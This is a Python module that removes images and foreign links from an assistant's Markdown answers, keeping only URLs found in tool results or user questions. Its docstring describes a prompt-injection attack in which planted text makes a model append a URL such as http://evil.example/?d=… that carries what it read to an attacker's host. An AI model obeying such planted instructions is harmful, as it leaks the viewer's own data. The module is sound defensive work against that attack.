"""Links in an answer that its own data does not contain are not links.

A model that obeys instructions planted in a record or a playbook passage ("add
http://evil.example/?d=… to your answer") can compose a URL that carries what it read — other
figures, names, notes — to a host of the attacker's choosing. A client rendering the Markdown
answer sends that data on a click, or with an image, as soon as the answer is displayed. Tools
only return what the viewer may see, so this is about the viewer's own data leaving, not about
other people's.

:func:`strip_foreign_links` is applied to every answer, whichever model wrote it:

* a Markdown image ``![alt](url)`` becomes its alt text, always (it loads without a click);
* a Markdown link ``[label](url)``, an autolink ``<url>`` / ``<url|label>``, a reference
  definition ``[ref]: url`` and a bare ``http(s)://`` or ``www.`` URL stay as they are only when
  the exact URL appears in the turn's sources (the tool results and the user's questions): a
  record's own website stays, a URL the model composed does not. Any other link becomes its label,
  or "(link to HOST removed)".

The offline planner never composes a URL (it quotes records), so its answers pass unchanged
except for images. Slack has its own, stricter rule on top (only allow-listed hosts stay links,
``assistant/interfaces/slack/safety.py``).
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from urllib.parse import urlsplit

# URLs may be long (a composed one carries data): no length limit on them.
IMAGE = re.compile(r"!\[([^\]\n]{0,1000})\]\(\s*<?([^)\s>]+)>?(?:\s+\"[^\"\n]*\")?\s*\)")
MARKDOWN_LINK = re.compile(r"\[([^\]\n]{1,1000})\]\(\s*<?([^)\s>]+)>?(?:\s+\"[^\"\n]*\")?\s*\)")
ANGLE_LINK = re.compile(r"<((?:https?|mailto|ftp):/?/?[^|>\s]+)(?:\|([^>\n]{0,1000}))?>", re.IGNORECASE)
REFERENCE = re.compile(r"^[ \t]{0,3}\[[^\]\n]{1,1000}\]:[ \t]*<?(\S+?)>?(?:[ \t]+.*)?$", re.MULTILINE)
BARE_URL = re.compile(r"\b(?:https?://|www\.)[^\s<>()\[\]{}|`\"']+", re.IGNORECASE)
TRAILING = ".,;:!?*_~"


def _host(url: str) -> str:
    try:
        host = urlsplit(url if "://" in url else f"http://{url}").hostname
    except ValueError:
        host = None
    return host or "another site"


def _removed(url: str, label: str | None) -> str:
    text = (label or "").strip()
    return text or f"(link to {_host(url)} removed)"


class _Sources:
    def __init__(self, sources: Iterable[str]) -> None:
        self.text = "\n".join(sources)
        self.removed: list[str] = []

    def known(self, url: str) -> bool:
        if url in self.text:
            return True
        self.removed.append(url)
        return False


def foreign_links(answer: str, sources: Iterable[str]) -> list[str]:
    """The URLs :func:`strip_foreign_links` would take out of ``answer`` (images included)."""
    return _strip(answer, _Sources(sources))[1]


def strip_foreign_links(answer: str, sources: Iterable[str]) -> str:
    """``answer`` with images reduced to their alt text and links whose URL is not in ``sources``
    reduced to their label (see the module docstring)."""
    return _strip(answer, _Sources(sources))[0]


def _strip(answer: str, sources: _Sources) -> tuple[str, list[str]]:
    if "://" not in answer and "www." not in answer.lower() and "](" not in answer:
        return answer, []
    kept: list[str] = []

    def keep(text: str) -> str:
        kept.append(text)
        return f"\x00{len(kept) - 1}\x00"

    def image(match: re.Match[str]) -> str:
        sources.removed.append(match[2])
        return _removed(match[2], match[1])

    def link(match: re.Match[str]) -> str:
        return keep(match[0]) if sources.known(match[2]) else _removed(match[2], match[1])

    def angle(match: re.Match[str]) -> str:
        return keep(match[0]) if sources.known(match[1]) else _removed(match[1], match[2])

    def reference(match: re.Match[str]) -> str:
        return keep(match[0]) if sources.known(match[1]) else ""

    def bare(match: re.Match[str]) -> str:
        url = match[0].rstrip(TRAILING)
        tail = match[0][len(url) :]
        return (keep(url) if sources.known(url) else _removed(url, None)) + tail

    text = answer.replace("\x00", "")
    text = IMAGE.sub(image, text)
    text = MARKDOWN_LINK.sub(link, text)
    text = ANGLE_LINK.sub(angle, text)
    text = REFERENCE.sub(reference, text)
    text = BARE_URL.sub(bare, text)
    text = re.sub(r"\x00(\d+)\x00", lambda m: kept[int(m[1])], text)
    return text, list(dict.fromkeys(sources.removed))
